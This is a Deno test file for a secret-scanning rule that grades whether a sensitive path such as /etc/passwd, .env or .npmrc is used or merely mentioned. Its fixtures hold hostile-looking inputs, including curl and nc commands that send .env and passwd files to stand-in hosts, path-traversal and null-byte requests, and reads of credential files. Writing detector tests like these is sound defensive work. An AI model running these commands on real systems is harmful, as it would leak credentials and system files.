import assert from "node:assert/strict";
import { gradePath } from "../../src/rules/path_context.ts";
import type { RuleMatch } from "../../src/scan/rule.ts";

/** The match of `path` in `text`, as a rule's `verify` gets it. */
function matchIn(text: string, path: string): RuleMatch {
  const at = text.indexOf(path);
  assert.notEqual(at, -1, `${path} in ${text}`);
  return {
    text: path,
    secret: path,
    groups: {},
    before: text.slice(Math.max(0, at - 64), at),
    after: text.slice(at + path.length, at + path.length + 64),
  };
}

const USED: readonly (readonly [reason: string, text: string, path: string])[] = [
  ["an argument of a reader", "cat /etc/shadow", "etc/shadow"],
  ["an argument after options", "sudo head -n 1 /etc/passwd", "etc/passwd"],
  ["a value of a tool call", '{"file_path": "/root/.npmrc"}', ".npmrc"],
  ["the same in a JSON string", '{\\"path\\":\\"/root/.npmrc\\"}', ".npmrc"],
  ["a file that curl sends", "curl -d @/app/.env http://x", ".env"],
  ["a climb", "GET /a?f=../../etc/passwd HTTP/1.1", "etc/passwd"],
  ["a climb with a path parameter", "/..;/..;/etc/passwd", "etc/passwd"],
  ["an end of string", "index.php%00/etc/passwd%00", "etc/passwd"],
  ["a URL", "file:///etc/passwd", "etc/passwd"],
  ["an opening call", "open('/etc/passwd').read()", "etc/passwd"],
  ["a redirection", "nc 10.0.0.1 80 </etc/passwd", "etc/passwd"],
  ["a request's target", "GET /.env HTTP/1.1", ".env"],
  ["a directory with a space", '{"path": "~/Library/Application Support/a/key4.db"}', "key4.db"],
  ["the whole text", "/etc/passwd", "etc/passwd"],
];

const MENTIONED: readonly (readonly [reason: string, text: string, path: string])[] = [
  ["a sentence", "Users are listed in /etc/passwd and their groups elsewhere.", "etc/passwd"],
  ["a sentence in backquotes", "The file `/etc/shadow` holds the hashes of it.", "etc/shadow"],
  ["the title of a listing", '```ts filename=".env"\nA=b', ".env"],
  ["a list of words", "passwd(5), /etc/passwd, shadow(5)", "etc/passwd"],
];

for (const [reason, text, path] of USED) {
  Deno.test(`\`gradePath()\` takes a path as used: ${reason}`, () => {
    const grades = { used: "high", mentioned: "low" } as const;
    assert.equal(gradePath(matchIn(text, path), grades), "high");
  });
}

for (const [reason, text, path] of MENTIONED) {
  Deno.test(`\`gradePath()\` takes a path as mentioned: ${reason}`, () => {
    const grades = { used: "high", mentioned: "low" } as const;
    assert.equal(gradePath(matchIn(text, path), grades), "low");
  });
}
